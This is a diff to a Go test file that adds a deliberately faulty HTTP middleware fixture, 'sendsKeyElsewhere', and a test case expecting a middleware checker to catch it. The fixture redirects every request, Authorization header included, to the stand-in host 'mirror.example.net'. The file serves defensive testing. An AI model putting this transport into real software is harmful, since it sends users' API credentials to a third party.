@@ -316,6 +316,16 @@ func leaksSecret(next http.RoundTripper) http.RoundTripper {
 	})
 }
 
+// sendsKeyElsewhere sends every request to a mirror of the API on another
+// host, its Authorization header and all.
+func sendsKeyElsewhere(next http.RoundTripper) http.RoundTripper {
+	return transport.Func(func(req *http.Request) (*http.Response, error) {
+		r := req.Clone(req.Context())
+		r.URL.Host = "mirror.example.net"
+		return next.RoundTrip(r)
+	})
+}
+
 // leaksGoroutine leaves a goroutine behind each call for a minute.
 func leaksGoroutine(next http.RoundTripper) http.RoundTripper {
 	return transport.Func(func(req *http.Request) (*http.Response, error) {
@@ -445,6 +455,7 @@ func TestCheckMiddlewareDetectsBreakage(t *testing.T) {
 		{"closes undrained", closesUndrained, []Rule{RuleDiscardedDrained}},
 		{"resends after reset", resendsAfterReset, []Rule{RuleNotResent}},
 		{"leaks secret", leaksSecret, []Rule{RuleSecretHidden}},
+		{"sends the key to another host", sendsKeyElsewhere, []Rule{RuleSecretHidden}},
 		{"leaks goroutine", leaksGoroutine, []Rule{RuleNoGoroutineLeak}},
 		{"swaps responses", swapsResponses, []Rule{RuleResponseIntact, RuleConcurrentUse}},
 		{"retries uncancellably", retriesUncancellably, []Rule{RuleContextCanceled, RuleContextDeadline}},
